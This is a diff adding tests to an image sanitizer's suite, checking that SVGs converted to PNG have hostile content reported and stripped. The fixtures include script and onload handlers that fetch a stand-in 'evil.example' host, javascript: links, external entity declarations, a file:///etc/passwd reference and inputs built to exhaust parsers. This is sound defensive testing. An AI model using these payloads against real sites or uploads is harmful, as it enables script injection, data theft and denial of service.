@@ -83,6 +83,97 @@ describe('kinds of pictures that come out as PNG', () => {
   })
 })
 
+/** An SVG of 100 × 100 around this. */
+const svg = (content: string, root = '', before = ''): Buffer =>
+  Buffer.from(
+    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"${root}>${content}<rect width="50" height="100" fill="#f00"/></svg>`,
+  )
+const evil = `https://evil.example/${marker}`
+
+/** What an SVG can be made to do or to fetch, and what the report says of it. */
+const hostileSvg: Readonly<Record<string, readonly [Buffer, FindingKind]>> = {
+  script: [svg(`<script>fetch("${evil}")</script>`), 'javascript'],
+  'script from outside': [svg(`<script xlink:href="${evil}"/>`), 'javascript'],
+  'handler on the root': [svg('', ` onload="fetch('${evil}')"`), 'javascript'],
+  'handler on a shape': [svg(`<g onclick="${marker}"><path d="M0 0"/></g>`), 'javascript'],
+  'handler written in other letters': [svg(`<g oNmOuSeOver="&#x61;${marker}"/>`), 'javascript'],
+  'page inside': [svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></foreignObject>`), 'embedded-file'],
+  'use of another file': [svg(`<use xlink:href="${evil}#a"/>`), 'external-reference'],
+  'picture from outside': [svg(`<image href="${evil}.png" width="9" height="9"/>`), 'external-reference'],
+  'picture from the machine': [svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'), 'external-reference'],
+  'SVG as data inside': [svg(`<image href="data:image/svg+xml;base64,${Buffer.from(evil).toString('base64')}"/>`), 'external-reference'],
+  'link that runs': [svg(`<a xlink:href="javascript:${marker}"><circle r="9"/></a>`), 'unsafe-link'],
+  'animated reference': [svg(`<a><animate attributeName="href" to="javascript:${marker}"/></a>`), 'action'],
+  'set reference': [svg(`<g><set attributeName="onload" to="${marker}"/></g>`), 'action'],
+  'style that imports': [svg(`<style>@import url(${evil});</style>`), 'external-reference'],
+  'style that fetches': [svg(`<style>.a{fill:url(${evil}#g)}</style><g class="a"/>`), 'external-reference'],
+  'fill from outside': [svg(`<g fill="url(${evil}#g)"/>`), 'external-reference'],
+  'attribute style that fetches': [svg(`<g style="filter:url(${evil}#f)"/>`), 'external-reference'],
+  'style sheet of the document': [svg('', '', `<?xml version="1.0"?><?xml-stylesheet href="${evil}"?>`), 'external-reference'],
+  'element of nobody': [svg(`<handler type="${marker}"/>`), 'action'],
+  'element of another language': [svg(`<x:embed xmlns:x="urn:${marker}" src="${evil}"/>`), 'unknown'],
+}
+
+describe('SVG comes out as PNG', () => {
+  for (const [name, [bytes, kind]] of Object.entries(hostileSvg))
+    it(`${name}: is told of and gone, the shapes stay`, async () => {
+      const output = await clean('svg', 'png', bytes)
+      assert.ok(kindsOf(output).includes(kind), kindsOf(output).join())
+      const { data, info } = await sharp(output.bytes).raw().toBuffer({ resolveWithObject: true })
+      const at = (Math.floor(info.height * 0.9) * info.width + Math.floor(info.width * 0.4)) * info.channels
+      assert.deepEqual([...data.subarray(at, at + 3)], [255, 0, 0])
+    })
+
+  it('what declares entities is not read', async () => {
+    const bombs = ['<!DOCTYPE svg [<!ENTITY a "b">]>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}">]>`]
+    for (const bomb of bombs) await assert.rejects(read('svg', 'png', svg('', '', bomb)), refuses('malformed'))
+    const plain = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+    assert.deepEqual(kindsOf(await clean('svg', 'png', svg('', '', plain))), [])
+  })
+
+  it('letters are drawn, with the styles of classes, and pictures inside coded anew', async () => {
+    const dark = async (content: string): Promise<number> => {
+      const { data } = await sharp((await clean('svg', 'png', svg(content))).bytes)
+        .flatten({ background: '#ffffff' })
+        .greyscale()
+        .raw()
+        .toBuffer({ resolveWithObject: true })
+      return data.filter((value) => value < 40).length
+    }
+    const none = await dark('')
+    const letters = await dark('<style>.t{font-size:20px}</style><text class="t" x="55" y="50">関所</text>')
+    assert.ok(letters > none + 200, `${letters} over ${none}`)
+    assert.ok((await dark('<style>@media print{.t{font-size:20px;fill:#fff}}</style><text class="t" x="55" y="50">関</text>')) > none)
+    const png = (
+      await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
+        .png()
+        .toBuffer()
+    ).toString('base64')
+    assert.ok((await dark(`<image x="60" y="60" width="30" height="30" href="data:image/png;base64,${png}"/>`)) > none + 1000)
+  })
+
+  it('answers in time whatever a pattern is made to look at', async () => {
+    const long = 'a'.repeat(300_000)
+    const evils = [
+      svg(`<style>${'/*'.repeat(200_000)}</style>`),
+      svg(`<style>${'.a,'.repeat(1_000)}{fill:red}</style>`),
+      svg(`<path d="${'1'.repeat(300_000)}x"/>`),
+      svg(`<g transform="${'scale(1) '.repeat(30_000)}x"/>`),
+      svg(`<polyline points="${'1,'.repeat(200_000)}!"/>`),
+      svg(`<g style="${long}:${long}"/>`),
+      svg(`<style>${'@media x{'.repeat(20_000)}</style>`),
+    ]
+    for (const file of evils) await clean('svg', 'png', file)
+    await assert.rejects(read('svg', 'png', svg(`<style>${'.a{} '.repeat(2_001)}</style>`)), refuses('limit-entries'))
+  })
+
+  it('shapes that use each other ten times over are no more work than one is given', async () => {
+    const levels = Array.from({ length: 9 }, (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`).join('')
+    const file = svg(`<defs><g id="l0"><circle r="1"/></g>${levels}</defs><use href="#l9"/>`)
+    await read('svg', 'png', file).catch((error: unknown) => assert.ok(error instanceof Refusal))
+  })
+})
+
 describe('AVIF comes out as JPEG', () => {
   const avif = async (alpha: boolean): Promise<Buffer> =>
     sharp(pixels(64, 48, alpha ? 4 : 3), { raw: { width: 64, height: 48, channels: alpha ? 4 : 3 } })
